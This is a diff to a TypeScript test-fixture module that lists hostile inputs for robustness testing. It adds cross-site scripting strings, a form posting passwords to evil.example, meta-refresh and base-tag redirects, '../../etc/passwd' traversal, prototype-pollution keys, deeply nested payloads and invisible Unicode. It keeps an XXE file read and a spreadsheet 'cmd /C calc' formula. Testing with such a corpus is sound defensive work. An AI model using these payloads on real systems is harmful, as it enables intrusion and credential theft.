@@ -2,7 +2,7 @@
 export function hostileContents(): { name: string; text: string }[] {
   return [...scripts, ...hidden(), ...broken(), ...large(), ...statements]
     .flatMap(({ name, text }) => wrappings.map((wrap) => ({ name: `${name}, ${wrap.name}`, text: wrap.of(text) })))
-    .concat(large())
+    .concat(deep())
 }
 
 const named = (name: string, texts: readonly string[]) => texts.map((text, at) => ({ name: `${name} ${at}`, text }))
@@ -26,6 +26,14 @@ const scripts = named('script', [
   // biome-ignore lint/suspicious/noTemplateCurlyInString: what others would take for a template
   '${process.env.SECRET}',
   '<!--#exec cmd="id"-->',
+  '<math><mtext><style><img src onerror=alert(1)>',
+  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '[click](javascript:alert(1))',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<object data="javascript:alert(1)"></object>',
   "=cmd|' /C calc'!A0",
   '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
 ])
@@ -38,7 +46,22 @@ const statements = named('statement', [
   "':*A'",
   '%_%',
   '(?:(a+)+)+$',
+  '../../etc/passwd',
+  '%00%0a%0d',
+  'NaN',
+  '__proto__',
+  'constructor',
 ])
+
+/** What a network could send beside words. */
+const deep = () =>
+  named('deep', [
+    '['.repeat(50_000),
+    '{"a":'.repeat(50_000),
+    '"",'.repeat(100_000),
+    '1,'.repeat(100_000),
+    '\\'.repeat(100_000),
+  ])
 
 const hidden = () =>
   named('hidden', [
@@ -50,6 +73,10 @@ const hidden = () =>
     String.fromCodePoint(...[...'ignore'].map((sign) => 0xe0000 + sign.charCodeAt(0))),
     'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e',
     'a\u00adb\u00adc',
+    '\u061c\u200e\u200f',
+    '\u034f\u115f\u1160\u3164\uffa0',
+    'H̸̡̪̯ͨ͊̽̅̾̎Ȩ̬̩̾͛ͪ̈́̀́͘',
+    '\u{1d173}\u{1d17a}',
     '\u180e\u2060\u2061\u2062\u2063\u2064',
     '\ufff9a\ufffab\ufffb',
     '👩‍👩‍👧‍👦🏳️‍🌈🏴󠁧󠁢󠁥󠁮󠁧󠁿',
